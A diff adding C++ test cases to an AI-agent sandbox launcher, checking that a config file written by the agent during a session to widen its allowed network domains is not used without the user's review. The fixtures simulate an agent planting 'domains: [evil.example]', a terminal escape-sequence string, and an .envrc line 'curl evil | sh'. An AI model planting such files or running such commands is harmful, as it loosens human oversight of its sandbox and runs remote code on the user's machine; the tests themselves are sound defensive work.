@@ -8,6 +8,7 @@
 
 #include <sstream>
 
+#include "launcher/host/docker_argv.hpp"
 #include "launcher/host/image.hpp"
 #include "launcher/host/session.hpp"
 #include "test_util.hpp"
@@ -299,4 +300,132 @@ TEST_CASE("reset: refuses without a terminal unless -y; with -y removes what it 
   CHECK(g.run({"--reset", "i"}) == 0);
   CHECK(g.runner.called_with_prefix({"docker", "image", "rm", "-f", "cagent:latest"}));
   CHECK_FALSE(g.runner.called_with_prefix({"docker", "volume"}));
+}
+
+TEST_CASE("session: a .cagent.yaml planted during a session is not used unseen") {
+  SessionFixture f;
+  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
+  std::string policy;
+  const auto read_policy = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
+  // Session 1: no .cagent.yaml; the "agent" writes one that widens domains.
+  f.runner.during_foreground = [&] { write_file(ws_config, "domains: [evil.example]\n", 0644); };
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(f.err.str().find("created or changed " + ws_config.string()) != std::string::npos);
+
+  // Session 2, no terminal: ignored with a one-line warning naming the file
+  // and how to accept it.
+  f.err.str("");
+  f.runner.during_foreground = read_policy;
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("evil.example") == std::string::npos);
+  CHECK(f.err.str().find("ignoring " + ws_config.string()) != std::string::npos);
+  CHECK(f.err.str().find("--accept-workspace-config") != std::string::npos);
+
+  // Session 3, a terminal, the user says no: still not used, asked again later.
+  f.host.stdin_tty = true;
+  f.err.str("");
+  f.in.str("n\n");
+  f.in.clear();
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("evil.example") == std::string::npos);
+  CHECK(f.err.str().find("  | domains: [evil.example]") != std::string::npos);
+  CHECK(f.err.str().find("[y/N]") != std::string::npos);
+
+  // Session 4: yes. Used, and remembered: no question next time.
+  f.err.str("");
+  f.in.str("y\n");
+  f.in.clear();
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("evil.example") != std::string::npos);
+  f.err.str("");
+  f.in.str("");
+  f.in.clear();
+  f.host.stdin_tty = false;
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("evil.example") != std::string::npos);
+  CHECK(f.err.str().find(".cagent.yaml") == std::string::npos);
+}
+
+TEST_CASE("session: the file shown for review carries no raw control characters") {
+  SessionFixture f;
+  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
+  f.runner.during_foreground = [&] {
+    write_file(ws_config, "domains: [a.example]\n# \x1b]0;pwned\x07\r\x1b[2Kok\n", 0644);
+  };
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  f.host.stdin_tty = true;
+  f.err.str("");
+  f.in.str("n\n");
+  f.runner.during_foreground = nullptr;
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  const std::string err = f.err.str();
+  CHECK(err.find('\x1b') == std::string::npos);
+  CHECK(err.find('\r') == std::string::npos);
+  CHECK(err.find('\x07') == std::string::npos);
+  CHECK(err.find("\\x1b]0;pwned") != std::string::npos);
+}
+
+TEST_CASE("session: --accept-workspace-config accepts; the user's edits between sessions need nothing") {
+  SessionFixture f;
+  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
+  std::string policy;
+  f.runner.during_foreground = [&] { write_file(ws_config, "domains: [planted.example]\n", 0644); };
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
+  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
+  CHECK(policy.find("planted.example") != std::string::npos);
+  // The user edits it while no session runs: used with no question.
+  write_file(ws_config, "domains: [users-own.example]\n", 0644);
+  f.err.str("");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("users-own.example") != std::string::npos);
+  CHECK(f.err.str().find("ignoring") == std::string::npos);
+}
+
+TEST_CASE("session: a workspace .cagent.yaml that came with it works on first sight; .envrc changes are named") {
+  SessionFixture f;
+  write_file(f.host.workspace / ".cagent.yaml", "domains: [repo.example]\n", 0644);
+  std::string policy;
+  f.runner.during_foreground = [&] {
+    policy = read_file(f.host_side("/etc/cagent/policy.toml"));
+    write_file(f.host.workspace / ".envrc", "curl evil | sh\n", 0644);
+  };
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("repo.example") != std::string::npos);
+  CHECK(f.err.str().find("changed " + (f.host.workspace / ".envrc").string()) != std::string::npos);
+  CHECK(f.err.str().find("direnv") != std::string::npos);
+}
+
+TEST_CASE("session: a sub-workspace's .cagent.yaml written after sessions of an enclosing one is asked about") {
+  SessionFixture f;
+  const fs::path sub = f.host.workspace / "sub";
+  fs::create_directories(sub);
+  // A session of the enclosing workspace; its agent plants sub/.cagent.yaml.
+  f.runner.during_foreground = [&] { write_file(sub / ".cagent.yaml", "domains: [nested.example]\n", 0644); };
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  // The user later runs cagent in sub/: first sight, but not the user's.
+  std::string policy;
+  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
+  f.host.workspace = sub;
+  f.err.str("");
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  CHECK(policy.find("nested.example") == std::string::npos);
+  CHECK(f.err.str().find("enclosing workspace") != std::string::npos);
+}
+
+TEST_CASE("session: --dry-run and --print-config remember nothing") {
+  SessionFixture f;
+  write_file(f.host.workspace / ".cagent.yaml", "domains: [a.example]\n", 0644);
+  CHECK(f.run({"--dry-run", "--", "true"}) == 0);
+  CHECK(f.run({"--print-config"}) == 0);
+  CHECK_FALSE(fs::exists(f.host.cagent_home / "workspaces"));
+}
+
+TEST_CASE("session: the home volume is the workspace's own; CAGENT_HOME_VOLUME's prefix is used") {
+  SessionFixture f;
+  f.host.home_volume_prefix = "cagent-test-home";
+  CHECK(f.run({"--no-update", "--", "true"}) == 0);
+  const std::string want = "type=volume,source=" + home_volume_name("cagent-test-home", f.host.workspace) +
+                           ",target=/home/agent,volume-label=cagent.home=cagent-test-home";
+  CHECK(contains(f.runner.foreground_argv, want));
 }
